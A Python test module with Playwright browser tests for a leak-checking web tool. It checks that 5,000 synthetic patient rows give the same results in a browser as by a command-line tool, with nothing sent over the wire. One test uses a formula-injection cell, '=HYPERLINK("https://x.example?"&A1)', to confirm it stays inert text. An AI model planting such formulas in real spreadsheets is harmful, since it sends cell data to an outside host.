"""5,000 rows in a browser: the same work list as the command's, and nothing of it on the wire."""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from urllib.parse import quote, quote_plus

import httpx
import pytest
import xlsxwriter
from playwright.sync_api import Browser, Worker

from app.cli.checking import CheckFiles, run_check
from app.clients.registry import Issued
from app.crypto import oprf
from app.crypto.stretch import stretch
from app.encoding import from_base64url
from app.identity.schemes import NORMALISATION_VERSION, SCHEMES
from app.protocol import messages
from app.settings import Settings
from app.synthesis.leak import synthesise
from app.synthesis.mapping import MAPPING_TOML
from app.worklist.columns import Outcome
from app.worklist.reading import open_work_list
from tests.browser.browsers import opening
from tests.browser.laboratory import (
    MATCHED,
    PATHS,
    REASON,
    RESULT,
    begin,
    choose,
    counts,
    finish,
    french,
    laboratory,
    people,
    rows_of,
    save,
    sign_in,
    summary_of,
    write_list,
)
from tests.browser.test_laboratory import NOTHING, STORED
from tests.browser.test_traffic import Traffic, writings
from tests.conftest import DATASET, ROWS, Leak
from tests.serving import serving_settings
from tests.web.client.test_list import LIBREOFFICE, ROLES, browser_rows

STRANGERS = 4600
# Shorter texts would be found by chance in a megabyte of base64url.
CHARACTERS_MINIMUM = 8


@pytest.fixture(scope="module")
def settings(leak: Leak, tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """The leak in a folder of its own, where clients can be added."""
    folder = tmp_path_factory.mktemp("list") / "data"
    shutil.copytree(leak.data, folder)
    return leak.settings(data=folder, limit_client="unlimited", limit_refused="unlimited")


@pytest.fixture(scope="module")
def lab_site(settings: Settings) -> Iterator[str]:
    with serving_settings(settings) as client:
        yield str(client.base_url).rstrip("/")


@pytest.fixture(scope="module")
def patients(leak: Leak, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """5,000 rows with all their dirt: those of the leak among others who are not in it."""
    others = io.BytesIO()
    synthesise(rows=STRANGERS, seed=31, out=others, truth=io.BytesIO())
    header, *rows = others.getvalue().split(b"\r\n")[:-1]
    known = (leak.mapping.parent / "leak.csv").read_bytes().split(b"\r\n")[1:-1]
    for number, row in enumerate(known):
        rows.insert(number * (STRANGERS + ROWS) // ROWS, row)
    assert len(rows) == STRANGERS + ROWS == 5000
    path = tmp_path_factory.mktemp("patients") / "patients.csv"
    path.write_bytes(b"\r\n".join([header, *rows, b""]))
    return path


def first_rows(patients: Path, count: int) -> Path:
    """Return a list of the first so many rows of another."""
    path = patients.with_name(f"first-{count}.csv")
    lines = patients.read_bytes().split(b"\r\n")[: count + 1]
    path.write_bytes(b"\r\n".join([*lines, b""]))
    return path


def by_command(
    patients: Path, site: str, lab: Issued, formats: list[str], *, folder: Path
) -> list[dict[str, str]]:
    """Return the work list that the command makes of the same file, in an empty folder."""
    fields = MAPPING_TOML.split("[dataset]")[0].replace('["%d/%m/%Y", "%Y%m%d"]', repr(formats))
    mapping, credential = folder / "mapping.toml", folder / "credential"
    mapping.write_text(fields, encoding="utf-8")
    credential.touch(mode=0o600)
    credential.write_text(lab.credential.text, encoding="ascii")
    out = folder / "by-command.csv"
    files = CheckFiles(patients, mapping, credential, folder / "lab.key", out)
    run_check(
        files,
        server=site,
        dataset=DATASET,
        schemes=(),
        patience_seconds=10,
        workers=2,
    )
    return rows_of(out.read_bytes())


@pytest.mark.slow
def test_with_fewer_schemes_it_comes_to_what_the_command_comes_to(
    browser: Browser, lab_site: str, settings: Settings, patients: Path, tmp_path: Path
) -> None:
    """Slow: 500 rows in a browser and by the command, asked by their numbers alone."""
    few = first_rows(patients, 500)
    lab = laboratory(settings.data, schemes=("nir-dob",), declared=1000)
    with opening(browser, lab_site + PATHS["en"]) as page:
        sign_in(page, lab)
        begin(page, few)
        finish(page, 120)
        found = rows_of(save(page, "csv"))
    header = few.read_bytes().split(b"\r\n", 1)[0].decode("cp1252").split(";")
    roles = [ROLES.get(name, "none") for name in header]
    formats = browser_rows(few.read_bytes(), roles)["formats"]
    check_same(found, by_command(few, lab_site, lab, formats, folder=tmp_path))
    reasons = {row[REASON] for row in found if row[RESULT] == Outcome.UNCHECKED}
    assert "only identifiers that are not asked" in reasons


def test_a_device_with_many_cores_finishes_too(
    browser: Browser, lab_site: str, settings: Settings, patients: Path
) -> None:
    """Chromium has room for a hundred memories for WebAssembly in a page and its workers."""
    lab = laboratory(settings.data, schemes=("nir-dob",), declared=5000)
    with opening(browser, "about:blank") as page:
        page.add_init_script("Object.defineProperty(navigator, 'hardwareConcurrency', {value: 24})")
        page.goto(lab_site + PATHS["en"])
        workers: list[Worker] = []

        def note(worker: Worker) -> None:
            workers.append(worker)

        page.on("worker", note)
        sign_in(page, lab)
        begin(page, first_rows(patients, 1500))
        finish(page, 300)
        assert len(workers) == 24
        assert sum(counts(page)[:3]) == counts(page)[3] == 1500


@pytest.mark.slow
@pytest.mark.promise("private")
def test_5000_rows_come_to_what_the_command_comes_to(
    browser: Browser, lab_site: str, settings: Settings, patients: Path, tmp_path: Path
) -> None:
    """Slow: some 20,000 questions, in a browser and by the command."""
    lab = laboratory(settings.data, declared=50_000)
    other = laboratory(settings.data, declared=50_000)
    with opening(browser, "about:blank") as page:
        traffic = Traffic.of(page)
        page.goto(lab_site + PATHS["fr"])
        sign_in(page, lab)
        begin(page, patients)
        finish(page, 600)
        shown = counts(page)
        found = rows_of(save(page, "csv"))
        workbook = save(page, "xlsx")
        page.wait_for_selector("#kept:visible")
        assert page.evaluate(STORED) == NOTHING
        sent = traffic.sent()
    header = patients.read_bytes().split(b"\r\n", 1)[0].decode("cp1252").split(";")
    roles = [ROLES.get(name, "none") for name in header]
    formats = browser_rows(patients.read_bytes(), roles)["formats"]
    expected = by_command(patients, lab_site, other, formats, folder=tmp_path)
    check_same(found, expected)
    outcomes = [row[RESULT] for row in found]
    assert shown == [*(outcomes.count(each) for each in Outcome), 5000]
    assert sum(shown[:3]) == 5000
    assert shown[0] >= ROWS * 0.95
    with open_work_list(io.BytesIO(workbook)) as opened:
        assert [row.outcome for row in opened.rows()] == outcomes
    check_nothing_sent(sent, found, patients, lab_site)


def check_same(found: list[dict[str, str]], expected: list[dict[str, str]]) -> None:
    """Check two work lists of one list against each other."""
    assert len(found) == len(expected) >= 500
    for ours, theirs in zip(found, expected, strict=True):
        own = {name: cell for name, cell in theirs.items() if name in ROLES}
        assert {name: ours[name] for name in own} == own
        said = [(row[RESULT], row[REASON], row[MATCHED]) for row in (ours, theirs)]
        assert said[0] == said[1], ours["NUM_SECU"][:3]


def check_nothing_sent(sent: bytes, found: list[dict[str, str]], patients: Path, site: str) -> None:
    """Check that no cell, and nothing that is computed from one, was in any request."""
    assert sent.count(b'{"blinded":') >= len(SCHEMES)
    cells = {row[name].strip() for row in found for name in ROLES}
    texts = {cell for cell in cells if len(cell) >= CHARACTERS_MINIMUM}
    texts |= {"".join(filter(str.isalnum, cell)) for cell in texts if any(map(str.isdigit, cell))}
    texts = {text for text in texts if len(text) >= CHARACTERS_MINIMUM}
    assert len(texts) > 5000
    for text in texts:
        for written in {text, quote(text), quote_plus(text)}:
            assert written.encode() not in sent
    assert patients.name.encode() not in sent
    deployment = messages.deployment_from_json(
        httpx.get(f"{site}/v1/parameters", timeout=60).json(), normalisation=NORMALISATION_VERSION
    )
    salt = deployment.stretch_salt
    described = httpx.get(f"{site}/v1/datasets/{DATASET}", timeout=60)
    dataset = messages.dataset_from_json(described.json())
    roles = [ROLES.get(name, "none") for name in found[0] if not name.startswith("concerne_")]
    rows = browser_rows(patients.read_bytes(), roles)["rows"]
    for row in rows[::250]:
        for scheme, text in row["inputs"]:
            length = len(text) * 3 // 4
            encoded = from_base64url(text, name="an input", length=length)
            stretched = stretch(dataset.scheme(scheme).stretch, salt, encoded)
            for value in (encoded, bytes(stretched), bytes(oprf.hash_to_group(stretched))):
                for each in writings(value):
                    assert each not in sent


def test_a_workbook_by_excels_conventions(
    browser: Browser, lab_site: str, settings: Settings, leak: Leak, tmp_path: Path
) -> None:
    """Days as numbers; a NIR as text, as a number of 15 digits and of 13, and rounded."""
    lab = laboratory(settings.data, schemes=("nir-dob",), declared=100)
    path = tmp_path / "patients.xlsx"
    lines = [t for t in leak.truth if t["scheme"] == "nir-dob"]
    present = next(t for t in lines if t["exposed"] and t["nir"].replace(" ", "").isdigit())
    absent = next(t for t in lines if not t["exposed"])
    nir = present["nir"].replace(" ", "")
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet("Patients")
        day = book.add_format({"num_format": "dd/mm/yyyy"})
        sheet.write_row(0, 0, ["NUM_SECU", "NE_LE"])
        numbers: list[object] = [present["nir"], int(nir[:13]), nir[:13], "1,85055695005E+14"]
        for at, number in enumerate(numbers, start=1):
            sheet.write(at, 0, number)
            sheet.write_datetime(at, 1, datetime.fromisoformat(present["birth_date"]), day)
        sheet.write_row(5, 0, [absent["nir"], french(absent["birth_date"])])
    with opening(browser, lab_site + PATHS["fr"]) as page:
        sign_in(page, lab)
        begin(page, path)
        finish(page)
        found = rows_of(save(page, "csv"))
    assert [row[RESULT] for row in found] == [
        "exposed",
        "exposed",
        "exposed",
        "could not be checked",
        "not exposed",
    ]
    assert found[3][REASON] == "NIR: rounded by a spreadsheet"
    assert {row["NE_LE"] for row in found[:4]} == {present["birth_date"]}


def test_a_workbook_that_libreoffice_wrote(
    browser: Browser, lab_site: str, settings: Settings
) -> None:
    lab = laboratory(settings.data, schemes=("nir-dob", "nir"), declared=100)
    with opening(browser, lab_site + PATHS["en"]) as page:
        sign_in(page, lab)
        choose(page, LIBREOFFICE)
        page.wait_for_selector("#step-columns:visible")
        assert page.locator("#sheet option").all_inner_texts()[0] == "Patients"
        page.click("#begin")
        finish(page)
        assert "Only the sheet “Patients” was read" in page.inner_text("#sheet-note")
        assert counts(page) == [0, 3, 1, 4]
        found = rows_of(save(page, "csv"))
    assert [row["DATE_NAISS"] for row in found] == ["1985-05-12", "12/05/1985", *["1985-05-12"] * 2]


def test_the_sheet_that_is_chosen_is_checked_and_the_others_are_named(
    browser: Browser, lab_site: str, settings: Settings, leak: Leak, tmp_path: Path
) -> None:
    """Also after a reload in the middle; a name of a sheet is text, whatever it looks like."""
    lab = laboratory(settings.data, schemes=("nir-dob", "phone"), declared=100)
    lines = [t for t in leak.truth if t["scheme"] == "nir-dob" and t["exposed"]][:3]
    path = tmp_path / "patients.xlsx"
    with xlsxwriter.Workbook(path) as book:
        for name, chosen in (("=1+1", lines[:1]), ("Vide", ()), ("<b>2026", lines[1:])):
            sheet = book.add_worksheet(name)
            for at, row in enumerate(people(chosen) if chosen else ()):
                sheet.write_row(at, 0, row)
    with opening(browser, lab_site + PATHS["fr"]) as page:
        sign_in(page, lab)
        choose(page, path)
        page.wait_for_selector("#sheet-field:visible")
        assert "1 lignes lues" in page.inner_text("#rows-read")
        page.select_option("#sheet", "1")
        page.wait_for_selector("#columns-fault:visible")
        assert page.input_value("#sheet") == "0"
        page.select_option("#sheet", "2")
        page.locator("#rows-read", has_text="2 lignes lues").wait_for()
        page.route("**/evaluations", lambda route: None)
        page.click("#begin")
        page.wait_for_selector("#run-numbers:visible")
        page.reload()
        page.unroute("**/evaluations")
        page.wait_for_selector("#unfinished:visible")
        choose(page, path)
        finish(page)
        assert counts(page) == [2, 0, 0, 2]
        note = page.inner_text("#sheet-note")
        assert "« <b>2026 »" in note.replace("\u00a0", " ")
        assert "=1+1, Vide" in note
        assert b"=1+1, Vide" in summary_of(save(page, "xlsx"))


@pytest.mark.parametrize(
    ("lang", "told"),
    [("fr", "C’est déjà une liste de travail."), ("en", "This is a work list already.")],
)
def test_a_work_list_is_not_checked_again(
    browser: Browser, lab_site: str, settings: Settings, leak: Leak, tmp_path: Path,
    lang: str, told: str,
) -> None:  # fmt: skip
    """Neither as it was saved nor as another sheet of a workbook; the list itself is taken."""
    lab = laboratory(settings.data, schemes=("nir-dob",), declared=100)
    rows = people([t for t in leak.truth if t["scheme"] == "nir-dob"][:2])
    listed = write_list(tmp_path / "patients.csv", rows)
    book = tmp_path / "both.xlsx"
    with xlsxwriter.Workbook(book) as both:
        for name, header in (("Patients", rows[0]), ("Checked", [*rows[0], RESULT])):
            sheet = both.add_worksheet(name)
            sheet.write_row(0, 0, header)
            sheet.write_row(1, 0, rows[1])
    with opening(browser, lab_site + PATHS[lang]) as page:
        sign_in(page, lab)
        begin(page, listed)
        finish(page)
        saved = [tmp_path / f"saved.{kind}" for kind in ("csv", "xlsx")]
        for path in saved:
            path.write_bytes(save(page, path.suffix[1:]))
        # What was saved is not kept: the page begins anew.
        page.wait_for_selector("#kept:visible")
        for path in saved:
            page.reload()
            page.wait_for_selector("#step-file:visible")
            choose(page, path)
            page.locator("#file-fault", has_text=told).wait_for()
            assert not page.locator("#step-columns").is_visible()
        choose(page, book)
        page.wait_for_selector("#sheet-field:visible")
        page.select_option("#sheet", "1")
        page.locator("#columns-fault", has_text=told).wait_for()
        assert page.input_value("#sheet") == "0"
        page.click("#other-file")
        begin(page, listed)
        finish(page)
        assert counts(page)[3] == 2


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16"])
def test_a_list_in_any_encoding_gives_its_letters_back(
    browser: Browser, lab_site: str, settings: Settings, tmp_path: Path, encoding: str
) -> None:
    lab = laboratory(settings.data, schemes=("name-dob",), declared=100)
    rows = [["NOM", "PRENOM", "NE_LE"], ["ŒUVRARD-LEFÈVRE", "Éléonore", "12/05/1985"]]
    path = write_list(tmp_path / "patients.csv", rows, encoding)
    with opening(browser, lab_site + PATHS["fr"]) as page:
        sign_in(page, lab)
        begin(page, path)
        finish(page)
        (row,) = rows_of(save(page, "csv"))
    assert [row[name] for name in rows[0]] == rows[1]
    assert row[RESULT] == "not exposed"


def test_a_formula_in_a_name_stays_text(
    browser: Browser, lab_site: str, settings: Settings, tmp_path: Path
) -> None:
    lab = laboratory(settings.data, schemes=("name-dob",), declared=100)
    cell = '=HYPERLINK("https://x.example?"&A1)'
    rows = [["NOM", "PRENOM", "NE_LE"], [cell, "Zoé", "12/05/1985"], ["LE GOFF", "@x", "1/2/1985"]]
    with opening(browser, lab_site + PATHS["fr"]) as page:
        sign_in(page, lab)
        choose(page, write_list(tmp_path / "patients.csv", rows))
        page.wait_for_selector("#step-columns:visible")
        for at, role in enumerate(("surname", "given_name", "birth_date")):
            page.select_option(f"#column-{at}", role)
        page.click("#begin")
        finish(page)
        saved = save(page, "csv")
    assert rows_of(saved)[0]["NOM"] == f"'{cell}"
    with open_work_list(io.BytesIO(saved)) as opened:
        assert [row.cells[0] for row in opened.rows()] == [cell, "LE GOFF"]
    assert next(csv.reader(io.StringIO(saved.decode("utf-8-sig")), delimiter=";"))[:3] == rows[0]
